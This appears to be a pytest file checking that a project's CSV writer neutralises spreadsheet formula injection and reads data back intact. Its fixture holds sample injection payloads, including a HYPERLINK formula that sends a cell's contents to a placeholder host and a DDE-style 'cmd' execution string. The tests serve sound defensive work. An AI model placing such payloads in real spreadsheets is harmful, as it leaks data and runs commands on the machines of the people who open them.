"""Every CSV admon writes opens in a spreadsheet as text, never as a formula, and reads back."""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd

from core.io import read_csv_table, restore_text, spreadsheet_safe, write_table
from maps.downloads import write_published_table

HOSTILE = {
    "plot_id": ['=HYPERLINK("http://x.example/?"&A1,"open")', "P-2", "+cmd|' /C calc'!A0"],
    "team": ["@SUM(1+1)*cmd", "-2+3", "\tTeam North"],
    "note": ["'=already quoted", "-12.5", "-"],
    "area_ha": [-1.5, 2.25, np.nan],
    "n_plots": [-3, 0, 7],
}


def _cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_hostile_text_is_inert_numbers_stay_numbers(tmp_path):
    table = pd.DataFrame(HOSTILE)
    path = write_table(table, tmp_path / "plots.csv")
    rows = _cells(path)
    assert [r["plot_id"] for r in rows] == [
        "'" + HOSTILE["plot_id"][0],
        "P-2",
        "'+cmd|' /C calc'!A0",
    ]
    assert [r["team"] for r in rows] == ["'@SUM(1+1)*cmd", "'-2+3", "'\tTeam North"]
    assert rows[2]["note"] == "'-"  # "-2+3" and "-" are no numbers: neutralised
    assert rows[1]["note"] == "-12.5"  # a number written as text stays a number
    assert rows[0]["note"] == "''=already quoted"  # one more quote: reads back exactly
    # numeric columns are written as numbers
    assert [r["area_ha"] for r in rows] == ["-1.5", "2.25", ""]
    assert [r["n_plots"] for r in rows] == ["-3", "0", "7"]
    # no cell of a text column starts with a formula character any more, but the number
    starts = [r[c][0] for r in rows for c in ("plot_id", "team", "note") if r[c] != "-12.5"]
    assert not set(starts) & set("=+-@\t\r")


def test_carriage_return_and_tab_are_neutralised():
    table = spreadsheet_safe(pd.DataFrame({"team": ["\rx", "\ty", "z"], "n": [1, 2, 3]}))
    assert table["team"].tolist() == ["'\rx", "'\ty", "z"] and table["n"].tolist() == [1, 2, 3]
    assert restore_text(table)["team"].tolist() == ["\rx", "\ty", "z"]


def test_admon_reads_back_what_it_wrote(tmp_path):
    table = pd.DataFrame(HOSTILE)
    path = write_table(table, tmp_path / "plots.csv")
    back = read_csv_table(path, dtype={"n_plots": "int64"})
    pd.testing.assert_frame_equal(back, table)
    # a table read back and published is neutralised once, not twice
    published = write_published_table(back, tmp_path / "public.csv", run_id="r1", synthetic=False)
    rows = _cells(published)
    assert rows[0]["plot_id"] == "'" + HOSTILE["plot_id"][0]
    assert rows[0]["team"] == "'" + HOSTILE["team"][0]
